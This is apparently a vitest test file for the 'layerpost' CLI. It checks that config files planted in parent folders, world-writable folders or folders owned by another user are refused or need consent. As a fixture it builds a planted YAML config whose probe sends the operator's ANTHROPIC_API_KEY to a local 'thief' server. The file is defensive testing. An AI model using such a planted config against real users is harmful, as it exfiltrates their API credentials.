// Whose config: the search stops at the repository root, else HOME when it is an ancestor, else the working
// directory; a config in a world-writable or foreign-owned folder is refused; the config used is always named; and a
// config found above the working directory that sends a credential to a host outside the catalogue needs consent.
import { chmod, chown, mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Evidence } from '../../src/model/evidence.js';
import { runCli } from '../helpers/cli.js';
import { startServer, type TestServer } from '../helpers/server.js';

const KEY = 'sk-ant-operator-key-must-not-leave-0123456789';
let tmp: string;
let thief: TestServer;
beforeAll(async () => {
  tmp = await mkdtemp(join(tmpdir(), 'layerpost-trust-'));
  thief = await startServer({
    '/v1/messages': (q, res) =>
      void res
        .writeHead(200, { 'content-type': 'application/json', 'x-got-key': String(q.headers['x-api-key'] ?? '') })
        .end(JSON.stringify({ content: [{ type: 'text', text: 'pong' }], stop_reason: 'end_turn' })),
  });
});
afterAll(async () => {
  await thief?.close();
  if (tmp) await rm(tmp, { recursive: true, force: true });
});

/** A config with a canary that sends the operator's default key (ANTHROPIC_API_KEY) to the test server. */
const planted = () =>
  `product: { name: Planted }\nproviders: []\nprobes:\n  - id: stolen\n    layer: model-quality\n    llm-canary: { api: anthropic, baseUrl: "${thief.url}", model: claude-opus-4-7 }\n`;
const env = (home: string) => ({
  HOME: home,
  ANTHROPIC_API_KEY: KEY,
  HTTPS_PROXY: '',
  HTTP_PROXY: '',
  https_proxy: '',
  http_proxy: '',
});

describe('config search and trust', () => {
  it('outside HOME and outside a repository, the search stops at the working directory: a config planted in a parent is not loaded', async () => {
    const base = join(tmp, 'planted');
    const cwd = join(base, 'work', 'here');
    await mkdir(cwd, { recursive: true });
    await mkdir(join(tmp, 'home-a'));
    await writeFile(join(base, 'layerpost.config.yaml'), planted());
    const r = await runCli(['layers'], { cwd, env: env(join(tmp, 'home-a')) });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toContain(`No layerpost.config.{yaml,yml,json} in ${cwd}: using the embedded defaults`);
    expect(r.stderr).not.toContain('or a parent up to');
  });

  it.each([
    ['a world-writable folder', async (dir: string) => chmod(dir, 0o777), 'is writable by every user'],
    [
      'a folder of another user',
      async (dir: string) => chown(dir, 65534, 65534),
      'belongs to another user (uid 65534)',
    ],
    [
      'a file of another user',
      async (dir: string) => chown(join(dir, 'layerpost.config.yaml'), 65534, 65534),
      'it belongs to another user (uid 65534)',
    ],
  ])('a config in %s is refused, saying why (exit 2)', async (name, spoil, why) => {
    if (name.includes('another user') && process.getuid?.() !== 0) return; // only root can give a file away
    const dir = join(tmp, name.replace(/\W+/g, '-'));
    await mkdir(dir, { recursive: true });
    await writeFile(join(dir, 'layerpost.config.yaml'), planted());
    await spoil(dir);
    const r = await runCli(['layers'], { cwd: dir, env: env(dir) });
    expect(r.code, r.stderr).toBe(2);
    expect(r.stderr).toContain(`layerpost: ${join(dir, 'layerpost.config.yaml')}: not loaded: `);
    expect(r.stderr).toContain(why);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
  });

  describe('a config found above the working directory (a cloned repository)', () => {
    let repo: string;
    beforeAll(async () => {
      repo = join(tmp, 'cloned');
      await mkdir(join(repo, '.git'), { recursive: true });
      await mkdir(join(repo, 'docs', 'sub'), { recursive: true });
      await writeFile(join(repo, 'layerpost.config.yaml'), planted());
    });

    it('that sends the key to a host outside the catalogue is refused without a terminal, naming probe, key and host; nothing is sent', async () => {
      const r = await runCli(['probe', '--json', '--no-status'], { cwd: join(repo, 'docs', 'sub'), env: env(repo) });
      expect(r.code, r.stderr).toBe(2);
      expect(r.stderr).toContain(`Config: ${join(repo, 'layerpost.config.yaml')}\n`);
      expect(r.stderr).toContain(
        `(found above the working directory) would send credentials to hosts that are not a known provider's API: probe "stolen" sends \${ANTHROPIC_API_KEY} to 127.0.0.1:${thief.port}`,
      );
      expect(r.stderr).toContain('pass --trust-config');
      expect(r.stderr).not.toContain(KEY);
      expect(thief.hits).toEqual([]);
      const draft = await runCli(
        ['draft', '--yes', '--phase', 'investigating', '--layer', 'unknown', '--out', join(tmp, 'drafts')],
        { cwd: join(repo, 'docs'), env: env(repo) },
      );
      expect(draft.code, draft.stderr).toBe(2);
      expect(thief.hits).toEqual([]);
    });

    it('--trust-config uses it, and the evidence names the config', async () => {
      const r = await runCli(['probe', '--json', '--no-status', '--trust-config'], {
        cwd: join(repo, 'docs', 'sub'),
        env: env(repo),
      });
      expect(r.code, r.stderr).toBe(0);
      expect((JSON.parse(r.stdout) as Evidence).takenOn?.config).toBe(join(repo, 'layerpost.config.yaml'));
      expect(thief.hits).toEqual(['POST /v1/messages']);
      thief.hits.length = 0;
    });

    it('in the working directory itself it is used as it is, and named on stderr without --verbose', async () => {
      const r = await runCli(['probe', '--json', '--no-status'], { cwd: repo, env: env(repo) });
      expect(r.code, r.stderr).toBe(0);
      expect(r.stderr.split('\n')[0]).toBe(`Config: ${join(repo, 'layerpost.config.yaml')}`);
      thief.hits.length = 0;
    });
  });
});
